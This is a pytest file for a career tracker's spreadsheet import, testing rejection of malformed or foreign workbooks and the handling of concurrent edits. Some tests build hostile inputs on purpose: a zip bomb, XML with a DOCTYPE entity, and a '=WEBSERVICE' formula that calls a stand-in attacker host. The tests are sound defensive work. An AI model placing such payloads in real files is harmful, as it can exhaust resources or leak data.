import io
import zipfile

import pytest
from sqlalchemy.orm import Session

from pathways.errors import BadRequest, Conflict
from pathways.trackers import imports, service, views
from pathways.trackers.models import CareerTracker
from pathways.trackers.workbook_import import WorkbookRejected
from tests.trackers.support import exported, start, to_bytes, user


def preview(session: Session, tracker: CareerTracker, data: bytes) -> imports.ImportPreview:
    return imports.preview(session, data, views.build(session, service.get_tracker(session, tracker.id)))


def rejected(session: Session, tracker: CareerTracker, data: bytes) -> str:
    with pytest.raises(BadRequest) as caught:
        preview(session, tracker, data)
    return caught.value.message


def test_a_file_that_is_not_an_xlsx(session: Session, tracker: CareerTracker) -> None:
    assert "not an .xlsx workbook" in rejected(session, tracker, b"Quarter,Course\n2027-Q1,REV-201\n")
    assert "empty" in rejected(session, tracker, b"")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "a zip, but no workbook")
    assert "not an .xlsx workbook" in rejected(session, tracker, buffer.getvalue())
    assert "not an .xlsx workbook" in rejected(session, tracker, b"PK\x03\x04" + b"\x00" * 100)


def test_a_workbook_from_another_tracker_or_employee(session: Session, tracker: CareerTracker) -> None:
    other_role = start(session, role="psr-2-float")
    message = rejected(session, tracker, to_bytes(exported(session, other_role)))
    assert "belongs to another tracker (psr-2-float)" in message
    dans = start(session, "outsider_dan", "psr-2-site-lead")
    message = rejected(session, tracker, to_bytes(exported(session, dans)))
    assert "belongs to another employee" in message and "Alice Moreno" in message


def test_unknown_course_codes_are_named_with_sheet_and_row(session: Session, tracker: CareerTracker) -> None:
    wb = exported(session, tracker)
    wb["Plan"].append(["2027-Q1", "REV-201"])
    wb["Plan"].append(["2027-Q2", "XYZ-999"])
    wb["Plan"].append(["next year", "REV-210"])
    wb["Goals"].append([None, "A goal", "31/12/2027", "open"])
    with pytest.raises(WorkbookRejected) as caught:
        preview(session, tracker, to_bytes(wb))
    assert caught.value.problems == [
        "Plan row 3: No course with code 'XYZ-999'.",
        "Plan row 4: 'next year' is not a quarter: write it like 2027-Q1.",
        "Goals row 2: '31/12/2027' is not a date: write it like 2027-03-31.",
    ]
    assert tracker.courses == [] and tracker.revision == 1


@pytest.mark.parametrize("edit", ["rename", "delete"])
def test_renamed_or_deleted_sheets(session: Session, tracker: CareerTracker, edit: str) -> None:
    wb = exported(session, tracker)
    if edit == "rename":
        wb["Plan"].title = "My plan"
    else:
        del wb["Goals"]
    message = rejected(session, tracker, to_bytes(wb))
    if edit == "rename":
        assert "The sheet 'Plan' is missing (the workbook has 'My plan' instead)" in message
    else:
        assert "The sheet 'Goals' is missing" in message


def test_a_zip_bomb_is_refused_before_it_is_opened(session: Session, tracker: CareerTracker) -> None:
    real = to_bytes(exported(session, tracker))
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(real)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for item in source.infolist():
            bomb.writestr(item, source.read(item))
        bomb.writestr("xl/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 1024 * 1024, "small on the wire"
    assert "unpacks to far more data" in rejected(session, tracker, buffer.getvalue())


def test_xml_with_a_doctype_is_refused(session: Session, tracker: CareerTracker) -> None:
    real = to_bytes(exported(session, tracker))
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(real)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/workbook.xml":
                data = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + data
            out.writestr(item, data)
    assert "DOCTYPE" in rejected(session, tracker, buffer.getvalue())


def test_formulas_are_never_evaluated(session: Session, tracker: CareerTracker) -> None:
    wb = exported(session, tracker)
    wb["Goals"].append([None, "=1+1", None, "open"])
    wb["Notes"]["A2"] = '=WEBSERVICE("http://evil.example")'
    result = preview(session, tracker, to_bytes(wb))
    assert sum("holds a formula" in w for w in result.edits.warnings) == 2
    assert result.edits.proposal.goals is not None and result.edits.proposal.goals[0].text == "=1+1"
    assert result.edits.proposal.notes == '=WEBSERVICE("http://evil.example")'
    wb = exported(session, tracker)
    wb["Plan"].append(["2027-Q1", "=A1"])
    assert "Plan row 2: No course with code '=A1'." in rejected(session, tracker, to_bytes(wb))


def test_a_concurrent_edit_is_shown_and_never_silently_overwritten(
    session: Session, tracker: CareerTracker
) -> None:
    alice = user(session, "psr_alice")
    wb = exported(session, tracker)
    wb["Plan"].append(["2027-Q1", "REV-201"])
    data = to_bytes(wb)
    service.plan_course(session, tracker, "EHR-201", "2027-Q2", alice)  # meanwhile, on the web page
    result = preview(session, tracker, data)
    assert result.stale and result.edits.exported_revision == 1 and result.current_revision == 2
    assert [c.summary.startswith("Planned EHR-201") for c in result.changed_since_export] == [True]
    assert sorted(c.text for c in result.changes) == [
        "Add course REV-201 (2027-Q1)",
        "Remove course EHR-201 (2027-Q2)",
    ]
    with pytest.raises(Conflict, match="changed since this workbook was exported"):
        imports.apply(session, tracker, result.edits, alice, confirm=False)
    assert {i.course.code for i in service.get_tracker(session, tracker.id).courses} == {"EHR-201"}
    tracker = service.get_tracker(session, tracker.id)
    imports.apply(session, tracker, result.edits, alice, confirm=True)
    assert {i.course.code for i in tracker.courses} == {"REV-201"}


def test_extra_sheets_and_headings(session: Session, tracker: CareerTracker) -> None:
    wb = exported(session, tracker)
    wb.create_sheet("Scratch")
    assert preview(session, tracker, to_bytes(wb)).edits.warnings == [
        "The sheet 'Scratch' is not part of the tracker and was ignored."
    ]
    wb["Plan"]["B1"] = "Code"
    assert "Plan row 1: the column headings were changed" in rejected(session, tracker, to_bytes(wb))
